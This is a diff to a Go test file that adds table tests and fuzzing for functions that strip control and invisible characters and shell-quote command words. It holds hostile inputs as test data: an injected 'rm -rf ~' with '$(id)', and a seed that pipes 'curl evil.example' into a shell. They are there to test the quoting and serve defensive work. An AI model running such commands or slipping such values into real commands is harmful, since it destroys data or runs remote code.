@@ -1,9 +1,13 @@
 package text
 
 import (
+	"slices"
 	"strings"
 	"testing"
+	"unicode"
 	"unicode/utf8"
+
+	"github.com/stormhooks/stormhooks/e2e/testkit"
 )
 
 func TestCuts(t *testing.T) {
@@ -36,6 +40,16 @@ func TestCuts(t *testing.T) {
 		{"nothing that turns the direction of writing", Clean("user\u202egnp.exe\u2066"), "usergnp.exe"},
 		{"nothing without a width", Clean("pa\u200bss\ufeffw\u00adord\U000e0041\ufe0f\u3164"), "password"},
 		{"letters of any script stay", Clean("größe 日本 עברית"), "größe 日本 עברית"},
+		{"one line, whatever ends a line", Clean("a\r\n\n b\u2028c\u2029d\u0085e"), "a b c d e"},
+		{"nothing private or unassigned", Clean("a\ue000b\U000effffc"), "abc"},
+		{"a peer's text is cut too", Said(strings.Repeat("a\x1b[m", 1000), 11), "aaaaaaaa…"},
+
+		{"plain words", Command("kubectl", "get", "pods", "-l", "storm.apache.org/topology=a"), "kubectl get pods -l storm.apache.org/topology=a"},
+		{"a second command", Command("kubectl", "a; rm -rf ~", "$(id)", "`id`"), "kubectl 'a; rm -rf ~' '$(id)' '`id`'"},
+		{"a quote", Command("a'b"), `'a'\''b'`},
+		{"an empty word", Command("a", ""), "a ''"},
+		{"zsh's path of a command", Command("=ls"), "'=ls'"},
+		{"one line only", Command("a\nb", "\u202ec"), "'a b' c"},
 		{"a capital", Capital("über"), "Über"},
 		{"of nothing", Capital(""), ""},
 	} {
@@ -94,8 +108,39 @@ func FuzzCuts(f *testing.F) {
 		if !strings.HasPrefix(text, head) || !strings.HasSuffix(text, lines) {
 			t.Errorf("%q is not the beginning and %q not the end of %q", head, lines, text)
 		}
-		if clean := Clean(text); Clean(clean) != clean {
-			t.Errorf("%q is cleaned twice", clean)
+	})
+}
+
+// FuzzSaid cleans and quotes any text.
+func FuzzSaid(f *testing.F) {
+	for _, seed := range []string{"a\x1b[31mb", "\x1b]8;;x\x07y", "\u202ea\u200b", "a; curl evil.example | sh #", "'$(id)'\n`id`", "\x1b\x1b[[0m0m", "<script>\xff", "\u1160\U000e0100"} {
+		f.Add(seed, 20)
+	}
+	f.Fuzz(func(t *testing.T, text string, limit int) {
+		clean, said := Clean(text), Said(text, limit%1000)
+		for name, got := range map[string]string{"Clean": clean, "Said": said} {
+			if !utf8.ValidString(got) || strings.TrimSpace(got) != got || strings.Contains(got, "  ") {
+				t.Errorf("%s(%q) is %q", name, text, got)
+			}
+			for _, r := range got {
+				if r != ' ' && (shown(r) != r || unicode.In(r, unicode.C, unicode.Z)) {
+					t.Errorf("%s(%q) has %U: %q", name, text, r, got)
+				}
+			}
+		}
+		if again := Clean(clean); again != clean || len(clean) > len(text) {
+			t.Errorf("%q is cleaned twice: %q", clean, again)
+		}
+		if len(said) > max(limit%1000, 0) {
+			t.Errorf("Said(%q, %d) has %d bytes", text, limit%1000, len(said))
+		}
+		words := []string{"kubectl", text, "-n", text + "x"}
+		read, err := testkit.Words(Command(words...))
+		for i := range words {
+			words[i] = Clean(words[i])
+		}
+		if err != nil || !slices.Equal(read, words) {
+			t.Errorf("a shell reads %q as %q, %v", Command(words...), read, err)
 		}
 	})
 }
